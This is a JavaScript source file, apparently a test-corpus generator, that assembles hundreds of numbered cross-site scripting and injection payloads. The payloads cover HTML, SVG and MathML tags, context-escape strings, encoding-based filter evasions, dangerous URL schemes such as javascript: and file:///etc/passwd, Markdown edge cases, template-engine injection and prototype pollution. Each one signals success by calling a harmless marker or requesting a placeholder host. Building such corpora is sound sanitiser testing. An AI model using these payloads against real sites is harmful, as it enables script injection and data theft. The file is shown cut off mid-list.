// SPDX-License-Identifier: MIT
//
// Texts that try to break out of being text. Each has a number and reports it on success:
//
//   fired(17), alert(17)          a script runs
//   https://hit.invalid/17        a request is made
//
// They are combined from kinds (the active part), escapes (closing the surrounding context),
// disguises (evading filters), URL schemes and URL syntaxes. All are different, and the same in
// every run.

export const HIT = "https://hit.invalid/";
const run = (n) => `fired(${n})`, say = (n) => `alert(${n})`, hit = (n) => HIT + n;
const base64 = (text) => Buffer.from(text).toString("base64");
const each = (text, write) => [...text].map(write).join("");
const hex = (text, size = 0) => text.codePointAt(0).toString(16).padStart(size, "0");

// ---- elements and their built-in actions ----

const ELEMENTS = [
	(n) => `<script>${run(n)}</script>`, (n) => `<script src="${hit(n)}"></script>`, (n) => `<script type=module>${run(n)}</script>`,
	(n) => `<script type=module src=${hit(n)}></script>`, (n) => `<script src=data:,${run(n)}></script>`, (n) => `<script async defer src=//hit.invalid/${n}></script>`,
	(n) => `<script type="text/template">${run(n)}</script>`, (n) => `<script nonce="">${run(n)}</script>`, (n) => `<script type=importmap>{"imports":{"x":"${hit(n)}"}}</script>`,
	(n) => `<script type=speculationrules>{"prefetch":[{"urls":["${hit(n)}"]}]}</script>`, (n) => `<img src=x onerror=${run(n)}>`, (n) => `<img src="${hit(n)}">`,
	(n) => `<img srcset="${hit(n)} 1x, ${hit(n)} 2x">`, (n) => `<img src=x onerror=${say(n)}>`, (n) => `<img src=data:, onerror=${run(n)}>`,
	(n) => `<img lowsrc="${hit(n)}" dynsrc="${hit(n)}" src="${hit(n)}">`, (n) => `<img loading=lazy src="${hit(n)}" alt="x">`, (n) => `<img src="x" onload="${run(n)}" onerror="${run(n)}">`,
	(n) => `<image src="${hit(n)}">`, (n) => `<image xlink:href="${hit(n)}" onerror="${run(n)}">`, (n) => `<picture><source srcset="${hit(n)}"><img onerror="${run(n)}" src=x></picture>`,
	(n) => `<svg onload=${run(n)}></svg>`, (n) => `<svg><script>${run(n)}</script></svg>`, (n) => `<svg><script href="${hit(n)}"/></svg>`,
	(n) => `<svg><script xlink:href="data:,${run(n)}"></script></svg>`, (n) => `<svg><image href="${hit(n)}"/></svg>`, (n) => `<svg><use href="${hit(n)}#x"/></svg>`,
	(n) => `<svg><use xlink:href="data:image/svg+xml;base64,${base64(`<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='${run(n)}'/>`)}#x"/></svg>`,
	(n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s></svg>`, (n) => `<svg><set onbegin=${run(n)} attributeName=x to=y></svg>`,
	(n) => `<svg><a><animate attributeName=href values="javascript:${run(n)}"/><text y=20>x</text></a></svg>`, (n) => `<svg><a xlink:href="javascript:${run(n)}"><text y=20>x</text></a></svg>`,
	(n) => `<svg><foreignObject><img src=x onerror=${run(n)}></foreignObject></svg>`, (n) => `<svg><style>@import "${hit(n)}";</style></svg>`,
	(n) => `<svg><feImage href="${hit(n)}"/></svg>`, (n) => `<svg><handler type="text/javascript">${run(n)}</handler></svg>`, (n) => `<svg><desc><img src=x onerror=${run(n)}></desc></svg>`,
	(n) => `<svg><title><img src=x onerror=${run(n)}></title></svg>`, (n) => `<svg><discard onbegin=${run(n)}></svg>`,
	(n) => `<svg><animateTransform onbegin="${run(n)}" attributeName="transform" dur="1s"/></svg>`,
	(n) => `<math href="javascript:${run(n)}">x</math>`, (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${run(n)}">x</maction></math>`,
	(n) => `<math><mtext><table><mglyph><style><img src=x onerror=${run(n)}></style></mglyph></table></mtext></math>`,
	(n) => `<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(n)}&gt;"></mtext></math>`,
	(n) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run(n)}></annotation-xml></math>`,
	(n) => `<math><mi><img src=x onerror=${run(n)}></mi></math>`, (n) => `<math><semantics><annotation-xml><svg><script>${run(n)}</script></svg></annotation-xml></semantics></math>`,
	(n) => `<svg></p><style><a id="</style><img src=x onerror=${run(n)}>">`, (n) => `<svg><p><style><g title="</style><img src=x onerror=${run(n)}>">`,
	(n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run(n)}></style></mglyph></form>`,
	(n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>"></noscript>`, (n) => `<noscript><img src="${hit(n)}"></noscript>`, (n) => `<noembed><p title="</noembed><img src=x onerror=${run(n)}>">`,
	(n) => `<template><script>${run(n)}</script></template>`, (n) => `<template shadowrootmode=open><img src=x onerror=${run(n)}></template>`, (n) => `<template><p title="</template><img src=x onerror=${run(n)}>">`,
	(n) => `<style><a title="</style><img src=x onerror=${run(n)}>">`, (n) => `<style>@import url(${hit(n)});</style>`, (n) => `<style>*{background:url(${hit(n)})!important}</style>`,
	(n) => `<style>@font-face{font-family:x;src:url(${hit(n)})}*{font-family:x}</style>`, (n) => `<style>body{-moz-binding:url(${hit(n)})}</style>`, (n) => `<style>[title]{behavior:url(${hit(n)})}</style>`,
	(n) => `<style>@namespace x url(${hit(n)}); x|*{cursor:url(${hit(n)}),auto}</style>`, (n) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run(n)}">x</p>`,
	(n) => `<p style="background:url(${hit(n)})">x</p>`, (n) => `<p style="width:expression(${run(n)})">x</p>`, (n) => `<p style="background:\\75\\72\\6c(${hit(n)})">x</p>`,
	(n) => `<p style="list-style:url('javascript:${run(n)}')">x</p>`, (n) => `<p style="position:fixed;inset:0;background:red" onmouseover=${run(n)}>x</p>`, (n) => `<p style="-webkit-mask:image-set('${hit(n)}' 1x)">x</p>`,
	(n) => `<link rel=stylesheet href="${hit(n)}">`, (n) => `<link rel=prefetch href="${hit(n)}">`, (n) => `<link rel=preload as=script href="${hit(n)}">`, (n) => `<link rel="preconnect dns-prefetch" href="${hit(n)}">`,
	(n) => `<link rel=icon href="${hit(n)}">`, (n) => `<link rel=modulepreload href="${hit(n)}">`, (n) => `<link rel=stylesheet href="data:text/css,*{background:url(${hit(n)})}">`, (n) => `<link rel=import href="${hit(n)}">`,
	(n) => `<link rel=manifest href="${hit(n)}">`, (n) => `<link rel=stylesheet onerror=${run(n)} href=x:>`,
	(n) => `<meta http-equiv=refresh content="0;url=javascript:${run(n)}">`, (n) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run(n)}</script>">`,
	(n) => `<meta http-equiv="Set-Cookie" content="fired=${n}">`, (n) => `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${run(n)}</script>`, (n) => `<meta http-equiv=Link content="<${hit(n)}>; rel=stylesheet">`,
	(n) => `<base href="${hit(n)}/">`, (n) => `<base href="${hit(n)}/"><img src=x>`, (n) => `<base target="javascript:${run(n)}">`,
	(n) => `<iframe src="javascript:${run(n)}"></iframe>`, (n) => `<iframe src="${hit(n)}"></iframe>`, (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
	(n) => `<iframe srcdoc="&lt;img src=x onerror=parent.${run(n)}&gt;"></iframe>`, (n) => `<iframe src="data:text/html,<img src=${hit(n)}>"></iframe>`, (n) => `<iframe onload=${run(n)}></iframe>`,
	(n) => `<iframe sandbox="allow-scripts" srcdoc="<img src='${hit(n)}'>"></iframe>`, (n) => `<iframe name="fired" src="about:blank" onload="${run(n)}"></iframe>`, (n) => `<fencedframe src="${hit(n)}"></fencedframe>`,
	(n) => `<frameset onload=${run(n)}><frame src="${hit(n)}"></frameset>`, (n) => `<object data="javascript:${run(n)}"></object>`, (n) => `<object data="${hit(n)}" type="text/html"></object>`,
	(n) => `<object data="data:text/html;base64,${base64(`<script>${run(n)}</script>`)}"></object>`, (n) => `<object onerror=${run(n)} data=x:></object>`, (n) => `<object><param name=movie value="${hit(n)}"></object>`,
	(n) => `<embed src="javascript:${run(n)}">`, (n) => `<embed src="${hit(n)}">`, (n) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run(n)}'/>">`,
	(n) => `<applet code="x" codebase="${hit(n)}"></applet>`, (n) => `<portal src="${hit(n)}"></portal>`,
	(n) => `<form action="javascript:${run(n)}"><input type=submit autofocus onfocus=${run(n)}></form>`, (n) => `<form action="${hit(n)}"><button>x</button></form>`, (n) => `<form id=x></form><button form=x formaction="javascript:${run(n)}">x</button>`,
	(n) => `<input type=image src="${hit(n)}">`, (n) => `<input autofocus onfocus=${run(n)}>`, (n) => `<input type=image formaction="javascript:${run(n)}" src=x onerror=${run(n)}>`, (n) => `<isindex action="javascript:${run(n)}" type=image src=x onerror=${run(n)}>`,
	(n) => `<textarea autofocus onfocus=${run(n)}></textarea>`, (n) => `<select autofocus onfocus=${run(n)}><option>x</select>`, (n) => `<keygen autofocus onfocus=${run(n)}>`,
	(n) => `<button autofocus onfocus=${run(n)}>x</button>`, (n) => `<button popovertarget=x onbeforetoggle=${run(n)}>x</button><p popover id=x ontoggle=${run(n)}>x</p>`,
	(n) => `<button commandfor=y command=show-modal>x</button><dialog id=y open oncommand=${run(n)}>x</dialog>`, (n) => `<details open ontoggle=${run(n)}>x</details>`, (n) => `<dialog open onclose=${run(n)}>x</dialog>`,
	(n) => `<video src=x onerror=${run(n)}></video>`, (n) => `<video poster="${hit(n)}"></video>`, (n) => `<video><source onerror=${run(n)}></video>`, (n) => `<video><track default src="${hit(n)}"></video>`, (n) => `<video autoplay src="${hit(n)}"></video>`,
	(n) => `<audio src=x onerror=${run(n)}></audio>`, (n) => `<audio autoplay src="${hit(n)}"></audio>`, (n) => `<marquee onstart=${run(n)}>x</marquee>`, (n) => `<marquee behavior=alternate onbounce=${run(n)} loop=1 width=0>x</marquee>`,
	(n) => `<body onload=${run(n)} onpageshow=${run(n)} onscroll=${run(n)}>`, (n) => `<body background="${hit(n)}">`, (n) => `<html manifest="${hit(n)}" onmouseover=${run(n)}>`, (n) => `<table background="${hit(n)}"><tr><td background="${hit(n)}">x</table>`,
	(n) => `<a href="javascript:${run(n)}">x</a>`, (n) => `<a href="${hit(n)}" ping="${hit(n)}">x</a>`, (n) => `<a href="data:text/html,<script>${run(n)}</script>">x</a>`, (n) => `<a id=x href=x: onfocus=${run(n)} autofocus tabindex=1>x</a>`,
	(n) => `<area shape=default href="javascript:${run(n)}"><map name=x><area href="${hit(n)}"></map>`, (n) => `<bgsound src="${hit(n)}">`, (n) => `<layer src="${hit(n)}"></layer>`,
	(n) => `<x onclick=${run(n)} onmouseover=${run(n)} onpointerenter=${run(n)} tabindex=1 autofocus onfocus=${run(n)}>x</x>`, (n) => `<x contenteditable onbeforeinput=${run(n)} onblur=${run(n)}>x</x>`,
	(n) => `<x style="transition:color 1s" ontransitionend=${run(n)}>x</x>`, (n) => `<x oncontentvisibilityautostatechange=${run(n)} style="display:block;content-visibility:auto">x</x>`, (n) => `<xss id=x tabindex=1 onfocusin=${run(n)} autofocus>x</xss>`,
	(n) => `<plaintext onmouseover=${run(n)}>`, (n) => `<xmp><p title="</xmp><img src=x onerror=${run(n)}>">`, (n) => `<listing>&lt;img onerror="${run(n)}" src=x&gt;</listing>`, (n) => `<title><img src=x onerror=${run(n)}></title>`,
	(n) => `<select><template><img src=x onerror=${run(n)}></template></select>`, (n) => `<table><td><form><table><tr><td></form><img src=x onerror=${run(n)}>`, (n) => `<a><table><a><img src=x onerror=${run(n)}></table>`,
	(n) => `<slot name="x" onslotchange=${run(n)}>x</slot>`, (n) => `<custom-element is="x" onclick=${run(n)}></custom-element>`,
];

// ---- names of globals of a page ----

const NAMES = ["app", "page", "paper", "retake-data", "body", "head", "cookie", "forms", "location", "getElementById", "querySelector", "defaultView", "createElement", "fired", "parentNode", "attributes", "innerHTML", "nodeName"];
const CLOBBERS = NAMES.map((name, at) => (n) => [
	`<form id="${name}"><input name=attributes><input name=parentNode><img src=x onerror=${run(n)}></form>`, `<img name="${name}" src="${hit(n)}">`,
	`<a id="${name}"></a><a id="${name}" name=x href="cid:&quot;onerror=${run(n)}//"></a><img src="${hit(n)}">`, `<iframe name="${name}" srcdoc="<a id=x href=${hit(n)}>"></iframe><img src=x onerror=${run(n)}>`,
][at % 4]);

// ---- escapes from the surrounding context ----

const OUTS = [
	["\"><", ""], ["'><", ""], ["\" x=\"><", ""], ["`><", ""], ["></", "/>"], ["</script><", ""], ["</SCRIPT ><", ""], ["</script/x><", ""], ["</script\t><", ""],
	["<!--<script></script>--><", ""], ["<!--<script><", "-->"], ["--><", ""], ["--!><", ""], ["<!--><", "-->"], ["<!---><", "-->"], ["<!-- x --!><", ""], ["]]><", ""], ["<![CDATA[><", "]]>"], ["<?xml ?><", "?>"], ["<!x><", ""], ["<!DOCTYPE x [<!ENTITY y \"z\">]><", ""],
	["</style><", ""], ["</title><", ""], ["</textarea><", ""], ["</pre></main><", ""], ["</template><", ""], ["</noscript><", ""], ["</iframe><", ""], ["</svg><", ""], ["</math><", ""], ["</p></div></section></article><", ""], ["</body></html><", ""],
	["\\\"}]}</script><", ""], ["\"});</script><", ""], ["'-x-'</script><", ""], ["\n\n<", "\n\n"], ["</option></select><", ""], ["</td></tr></table><", ""], ["</button></form></dialog><", ""], ["*/</style><", "/*"],
];
const SEEDS = [(n) => `img src=x onerror=${run(n)}>`, (n) => `script>${run(n)}</script>`, (n) => `svg onload=${run(n)}>`, (n) => `iframe src="${hit(n)}"></iframe>`];
const BROKEN_OUT = OUTS.flatMap(([before, after]) => SEEDS.map((seed) => (n) => before + seed(n) + after));

// ---- handlers after a closing quote ----

const HANDLERS = ["onmouseover", "onfocus", "onclick", "onerror", "onload", "onpointerenter", "ontoggle", "onanimationstart", "onauxclick", "onwheel", "onbeforematch", "onscrollend"].flatMap((name, at) => [
	(n) => `" ${name}="${run(n)}" x="`, (n) => `' ${name}='${run(n)}' x='`, (n) => `x ${name}=${run(n)} ${at % 2 ? "autofocus tabindex=1" : "style=display:block"}`,
]);

// ---- disguised elements ----

const TAG = (n) => `<img src=x onerror=${run(n)}>`;
const DISGUISES = [
	(tag) => tag.replace("img", "IMG").replace("onerror", "OnErRoR"), (tag) => tag.replace("<img", "<im\u0000g"), (tag) => tag.replace("<", "<\u0000"), (tag) => tag.replace(" src", "/src").replace(" onerror", "/onerror"),
	(tag) => tag.replace(/ /g, "\t"), (tag) => tag.replace(/ /g, "\n"), (tag) => tag.replace(/ /g, "\f"), (tag) => tag.replace(/ /g, "\r"), (tag) => tag.replace(/ /g, "\v"), (tag) => tag.replace(/ /g, "\u00a0"), (tag) => tag.replace(/ /g, "\u2028"),
	(tag) => tag.slice(0, -1), (tag) => tag.slice(0, -1) + " <", (tag) => "<" + tag, (tag) => "<<" + tag + ">>", (tag) => "</" + tag.slice(1), (tag) => "<x/" + tag.slice(1), (tag) => tag.replace("onerror=", "onerror\u0000="), (tag) => tag.replace("onerror=", "onerror\n=\n"),
	(tag) => tag.replace("onerror=", "x=`> onerror=`").replace(/>$/, "`>"), (tag) => tag.replace("fired", "&#102;ired"), (tag) => tag.replace("fired", "&#x66;&#x69;red"), (tag) => tag.replace("fired", "\\u0066ired"), (tag) => tag.replace("(", "&lpar;").replace(")", "&rpar;"),
	(tag) => tag.replace(/</g, "&lt;").replace(/>/g, "&gt;"), (tag) => tag.replace(/</g, "&LT;").replace(/>/g, "&GT;"), (tag) => tag.replace(/</g, "&lt").replace(/>/g, "&gt"), (tag) => tag.replace(/</g, "&#60;").replace(/>/g, "&#62;"), (tag) => tag.replace(/</g, "&#x3c;").replace(/>/g, "&#x3e;"),
	(tag) => tag.replace(/</g, "&#0000060;"), (tag) => tag.replace(/</g, "&#60"), (tag) => tag.replace(/</g, "&amp;lt;").replace(/>/g, "&amp;gt;"), (tag) => tag.replace(/</g, "%3C").replace(/>/g, "%3E"), (tag) => tag.replace(/</g, "%253C").replace(/>/g, "%253E"),
	(tag) => tag.replace(/</g, "\\u003c").replace(/>/g, "\\u003e"), (tag) => tag.replace(/</g, "\\x3c").replace(/>/g, "\\x3e"), (tag) => tag.replace(/</g, "\\74").replace(/>/g, "\\76"), (tag) => tag.replace(/</g, "\uff1c").replace(/>/g, "\uff1e"), (tag) => tag.replace(/</g, "\u2039").replace(/>/g, "\u203a"),
	(tag) => tag.replace(/</g, "\u02c2").replace(/>/g, "\u02c3"), (tag) => tag.replace(/</g, "\u013c").replace(/>/g, "\u013e"), (tag) => tag.replace(/</g, "+ADw-").replace(/>/g, "+AD4-"), (tag) => tag.replace(/</g, "\u00c0\u00bc"), (tag) => tag.replace("<", "<\u200b"), (tag) => tag.replace("img", "i\u00admg"),
	(tag) => tag.replace("img", "\u0131mg"), (tag) => tag.replace("onerror", "on\u200derror"), (tag) => "\u202e" + each(tag, (c) => c).split("").reverse().join("") + "\u202c", (tag) => "\ufeff" + tag, (tag) => "\ud83d\ude00" + tag, (tag) => "\u2066" + tag + "\u2069", (tag) => tag.replace(/(.)/g, "$1\u0300").replace(/\u0300/g, (c, at) => (at % 5 ? "" : c)),
	(tag) => `<\u0020${tag.slice(1)}`, (tag) => `\\${tag}`, (tag) => `<ı${tag.slice(2)}`, (tag) => tag.replace("src=x", "src=\"x\"'"), (tag) => tag.replace("src=x", "=\"x\" src='x'"), (tag) => tag.replace("<img", "<img<img"), (tag) => `\u001b[2K\r${tag}`, (tag) => tag.replace(/</g, "\u001b%G<"), (tag) => `<img${" x".repeat(200)}${tag.slice(4)}`,
].map((disguise) => (n) => disguise(TAG(n)));

// ---- urls ----

const SCHEMES = [
	(n) => ["javascript", `:${run(n)}`], (n) => ["vbscript", `:${run(n)}`], (n) => ["data", `:text/html,<script>${run(n)}</script>`], (n) => ["data", `:text/html;base64,${base64(`<script>${run(n)}</script>`)}`], (n) => ["data", `:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run(n)}'/>`],
	(n) => ["file", `:///etc/passwd?${n}`], (n) => ["blob", `:null/${n}`], (n) => ["filesystem", `:http://hit.invalid/temporary/${n}`], (n) => ["livescript", `:${run(n)}`], (n) => ["view-source", `:${hit(n)}`], (n) => ["jar", `:${hit(n)}!/`], (n) => ["intent", `://hit.invalid/${n}#Intent;end`], (n) => ["about", `:blank#${n}`], (n) => ["ws", `://hit.invalid/${n}`],
];
const URL_DISGUISES = [
	(name, rest) => name + rest, (name, rest) => each(name, (c, at) => (at % 2 ? c : c.toUpperCase())) + rest, (name, rest) => name.slice(0, 3) + "\t" + name.slice(3) + rest, (name, rest) => name.slice(0, 2) + "\n" + name.slice(2) + rest, (name, rest) => name.slice(0, 1) + "\r" + name.slice(1) + rest,
	(name, rest) => "\u0001" + name + rest, (name, rest) => " \u00a0" + name + rest, (name, rest) => "\u200b" + name + rest, (name, rest) => name + "\t" + rest, (name, rest) => name + "&colon;" + rest.slice(1), (name, rest) => each(name, (c) => `&#${c.codePointAt(0)};`) + rest, (name, rest) => each(name, (c) => `&#x${hex(c, 6)}`) + rest,
	(name, rest) => name.slice(0, 3) + "&Tab;" + name.slice(3) + rest, (name, rest) => name.slice(0, 4) + "&NewLine;" + name.slice(4) + rest, (name, rest) => each(name, (c) => `%${hex(c, 2)}`) + rest, (name, rest) => each(name, (c) => `%25${hex(c, 2)}`) + rest, (name, rest) => name + "%3a" + rest.slice(1), (name, rest) => "//" + name + rest, (name, rest) => "\\" + name + rest,
	(name, rest) => name + "\u0000" + rest, (name, rest) => name + ":" + name + rest, (name, rest) => "https&#58;" + name + rest, (name, rest) => "#" + name + rest, (name, rest) => "\ufeff" + name + rest, (name, rest) => each(name, (c) => String.fromCodePoint(c.codePointAt(0) + 0xfee0)) + rest,
];
const SYNTAXES = [
	(url) => `[x](${url})`, (url) => `[x](<${url}>)`, (url) => `[x](${url} "title")`, (url) => `![x](${url})`, (url) => `![x](<${url}>)`, (url) => `<${url}>`, (url) => `[x][r]\n\n[r]: ${url}`, (url) => `[x][r]\n\n[r]: <${url}> 'y'`, (url) => `[r]\n\n[r]: ${url}`, (url) => `[r][]\n\n[r]: ${url}`,
	(url) => `[![x](${url})](${url})`, (url) => `[x](${url})`.replace(/^/, "> - 1. "), (url) => `| [x](${url}) |\n|---|\n| ![y](${url}) |`, (url) => `# [x](${url})`, (url) => `*[**x**](${url})*`, (url) => `[[x](${url})](${url})`, (url) => `<a href="${url}">x</a>`, (url) => `<img src="${url}">`, (url) => `![x][r]\n\n[r]: ${url}`, (url) => `<a href='${url}' target=_self>x</a>`,
	(url) => url, (url) => `<iframe src="${url}"></iframe>`, (url) => `[x]( ${url} )`,
];
const URLS = SCHEMES.flatMap((scheme, at) => URL_DISGUISES.map((disguise, by) => (n) => SYNTAXES[(at * 7 + by) % SYNTAXES.length](disguise(...scheme(n)))));
const PLACES = [
	(n) => `[x](//hit.invalid/${n})`, (n) => `![x](//hit.invalid/${n})`, (n) => `[x](/\\hit.invalid/${n})`, (n) => `[x](\\\\hit.invalid\\${n})`, (n) => `[x](https:hit.invalid/${n})`, (n) => `[x](https:/\\hit.invalid/${n})`, (n) => `[x](https://127.0.0.1@hit.invalid/${n})`, (n) => `[x](https://user:pass@hit.invalid/${n})`,
	(n) => `[https://127.0.0.1/](${hit(n)})`, (n) => `[x](https://h\u0456t.invalid/${n})`, (n) => `[x](https://xn--ht-fka.invalid/${n})`, (n) => `[x](https://hit\u3002invalid/${n})`, (n) => `[x](https://hit.invalid\uff0f${n})`, (n) => `![x](${hit(n)})`, (n) => `![x](${hit(n)} "y")`, (n) => `![x](<${hit(n)}>)`, (n) => `![${hit(n)}][r]\n\n[r]: ${hit(n)}`,
	(n) => `[x](https://hit.invalid/"onmouseover="${run(n)})`, (n) => `[x](https://hit.invalid/${n} "\\" onmouseover=${run(n)} x=\\"")`, (n) => `[x](https://hit.invalid/${n} '"><img src=x onerror=${run(n)}>')`, (n) => `[x](<https://hit.invalid/${n}"><script>${run(n)}</script>>)`, (n) => `<https://hit.invalid/${n}"onmouseover=${run(n)}>`, (n) => `https://hit.invalid/${n}"onmouseover="${run(n)}`,
	(n) => `https://hit.invalid/<script>${run(n)}</script>`, (n) => `www.hit.invalid/${n}"><img src=x onerror=${run(n)}>`, (n) => `<a@hit.invalid?${n}"onmouseover=${run(n)}>`, (n) => `[x](mailto:a@hit.invalid?body=${n}%0d%0abcc:b@hit.invalid)`, (n) => `[x](mailto:"><img src=x onerror=${run(n)}>)`, (n) => `[<img src=x onerror=${run(n)}>](${hit(n)})`, (n) => `![<img src=x onerror=${run(n)}>](${hit(n)})`, (n) => `![x" onerror="${run(n)}](${hit(n)})`,
	(n) => `[x](../../web/main.js?${n})`, (n) => `![x](/retake/v1/export?${n})`, (n) => `![x](?${n})`, (n) => `[x](#/d/d1/t/t1/e/${n}"><img src=x onerror=${run(n)}>)`, (n) => `[x](#"onclick="${run(n)})`, (n) => `[x](https://hit.invalid/${n}\u202egpj.exe)`, (n) => `[x](http://hit.invalid:80:80/${n})`, (n) => `[x](http://[::1]@hit.invalid/${n})`, (n) => `[x](https://hit.invalid/${n}#javascript:${run(n)})`,
];

// ---- Markdown: special cases ----

const CORNERS = [
	(n) => `\`\`\`html\n<script>${run(n)}</script>\n\`\`\``, (n) => `\`\`\`"><script>${run(n)}</script>\nx\n\`\`\``, (n) => `\`\`\` " onmouseover=${run(n)} x="\nx\n\`\`\``, (n) => `~~~ ' onfocus=${run(n)} autofocus '\nx\n~~~`, (n) => `\`\`\`__proto__\n${run(n)}\n\`\`\``, (n) => `\`\`\`constructor\n${run(n)}\n\`\`\``, (n) => `\`\`\`javascript\n${run(n)}</code></pre><img src=x onerror=${run(n)}>\n\`\`\``, (n) => `\`\`\`xml\n<![CDATA[<img src=x onerror=${run(n)}>]]>\n\`\`\``,
	(n) => `\`\`\`svg\n<svg onload=${run(n)}>`, (n) => `\`\`\`markdown\n[x](javascript:${run(n)})\n\`\`\``, (n) => `\`\`\`css\n@import "${hit(n)}";\n\`\`\``, (n) => `\`\`\`json\n{"__proto__":{"x":"</script><script>${run(n)}</script>"}}\n\`\`\``, (n) => `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run(n)}>"]\n\`\`\``, (n) => `\`\`\`diff\n+<img src=x onerror=${run(n)}>\n\`\`\``, (n) => `    <script>${run(n)}</script>`, (n) => `\`<script>${run(n)}</script>\``, (n) => `\`\` <img src=x onerror=\`${run(n)}\`> \`\``,
	(n) => `<script>\n\n${run(n)}\n\n</script>`, (n) => `<pre>\n<script>${run(n)}</script>\n\n</pre>`, (n) => `<!--\n\n--><script>${run(n)}</script>`, (n) => `<?php echo "\n\n<script>${run(n)}</script>"; ?>`, (n) => `<!ELEMENT x\n><script>${run(n)}</script>`, (n) => `<![CDATA[\n\n]]><script>${run(n)}</script>`, (n) => `<div\nonclick=${run(n)}\n>\n\n*x*\n\n</div><script>${run(n)}</script>`, (n) => `<x-y onclick="${run(n)}">\n\n<img src=x onerror=${run(n)}>`, (n) => `<table><tr><td>\n\n<script>${run(n)}</script>\n\n</td></tr></table>`,
	(n) => `| <script>${run(n)}</script> |\n|---|\n| <img src=x onerror=${run(n)}> |`, (n) => `| a | b |\n|:-:|--:|\n| \`<img src=x onerror=${run(n)}>\` | \\| "onmouseover=${run(n)} |`, (n) => `|<img src=x onerror=${run(n)}>|\n|:"onload=${run(n)}-|`, (n) => `# <svg onload=${run(n)}>`, (n) => `<svg onload=${run(n)}>\n===`, (n) => `> <script>${run(n)}</script>`, (n) => `- [x] <img src=x onerror=${run(n)}>`, (n) => `999999999. <img src=x onerror=${run(n)}>`,
	(n) => `[^1]\n\n[^1]: <img src=x onerror=${run(n)}>`, (n) => `[^"onmouseover=${run(n)}]\n\n[^"onmouseover=${run(n)}]: x`, (n) => `x<sup id="fn"><img src=x onerror=${run(n)}></sup>`, (n) => `*<img src=x onerror="*${run(n)}*">*`, (n) => `**<img src="x**" onerror=${run(n)}>`, (n) => `~~<svg/onload=${run(n)}>~~`, (n) => `==<svg/onload=${run(n)}>==`, (n) => `$$\\href{javascript:${run(n)}}{x}$$`, (n) => `\\(\\htmlData{x=<img src=x onerror=${run(n)}>}\\)`, (n) => `:img[x]{onerror=${run(n)} src=x}`, (n) => `# x {onmouseover=${run(n)}}`, (n) => `[x]{.c onclick=${run(n)}}`, (n) => `::: {onclick="${run(n)}"}\nx\n:::`,
	(n) => `${"[".repeat(60)}x${"](javascript:".repeat(3)}${run(n)})`, (n) => `${"> ".repeat(90)}<img src=x onerror=${run(n)}>`, (n) => `${"*".repeat(99)}<img src=x onerror=${run(n)}>`, (n) => `${"- ".repeat(80)}<svg onload=${run(n)}>`, (n) => `[x](${"(".repeat(40)}javascript:${run(n)}${")".repeat(40)})`, (n) => `---\ntitle: <img src=x onerror=${run(n)}>\n---\n\nx`, (n) => `x  \n<img src=x onerror=${run(n)}>\\\ny`, (n) => `&lt;img src=x onerror=${run(n)}&gt; &#x3c;script&#x3e;${run(n)}`, (n) => `\\<img src=x onerror=${run(n)}>`, (n) => `<\\script>${run(n)}`, (n) => `<a href="x\n\n"onclick=${run(n)}>`, (n) => `<img\n\nsrc=x onerror=${run(n)}>`,
];

// ---- texts for other parsers than HTML's ----

const TEXTS = [
	(n) => `\u202e<script>${run(n)}</script>`, (n) => `\u2066${run(n)}\u2069\u202d`, (n) => `\u200b\u200c\u200d\u2060${run(n)}\ufeff`, (n) => `\u0000${run(n)}\u0000`, (n) => `\u0001\u0008\u007f\u0085\u009b31m${run(n)}`, (n) => `\u001b[31m${run(n)}\u001b]0;x\u0007\u001b]8;;${hit(n)}\u0007x\u001b]8;;\u0007`, (n) => `\u001bP\u001b\\\u001b[6n${n}`, (n) => `\u2028${run(n)}\u2029`, (n) => `";${run(n)};\u2028//`, (n) => `\r\n\r\nevent: op\r\ndata: {"seq":${n}}\r\n\r\n`, (n) => `\n\nid: ${n}.1\nretry: 1\n\n`, (n) => `\u{e0001}\u{e0020}${run(n)}\u{e007f}`, (n) => `\ufff9${run(n)}\ufffa<img src=x onerror=${run(n)}>\ufffb`, (n) => `\ufffe\uffff${run(n)}`,
	(n) => `{{constructor.constructor('${run(n)}')()}}`, (n) => `{{=${run(n)}}}`, (n) => `{{{<img src=x onerror=${run(n)}>}}}`, (n) => `\${${run(n)}}`, (n) => `#{${run(n)}}`, (n) => `<%= ${run(n)} %>`, (n) => `[[\${${run(n)}}]]`, (n) => `{%raw%}<img src=x onerror=${run(n)}>{%endraw%}`, (n) => `v-html="'<img src=x onerror=${run(n)}>'"`, (n) => `<x ng-app ng-csp ng-click=$event.view.${run(n)}>`, (n) => `<x x-data x-init="${run(n)}" @click="${run(n)}" :onclick="${run(n)}">`, (n) => `<x hx-get="${hit(n)}" hx-trigger=load hx-on::load="${run(n)}">`, (n) => `<x data-bind="click: ${run(n)}" _="on load ${run(n)}">`,
	(n) => `__proto__ ${n}`, (n) => `{"__proto__":{"onerror":"${run(n)}","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run(n)}>"}}}`, (n) => `constructor.prototype.x=${run(n)}`, (n) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run(n)}>"}}`, (n) => `{"type":"script","props":{"children":"${run(n)}"},"key":null,"constructor":null}`, (n) => `{"t":"a","href":"javascript:${run(n)}","c":["x"]}`, (n) => `[{"t":"img","src":"${hit(n)}"}]`, (n) => `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"${hit(n)}"}}`,
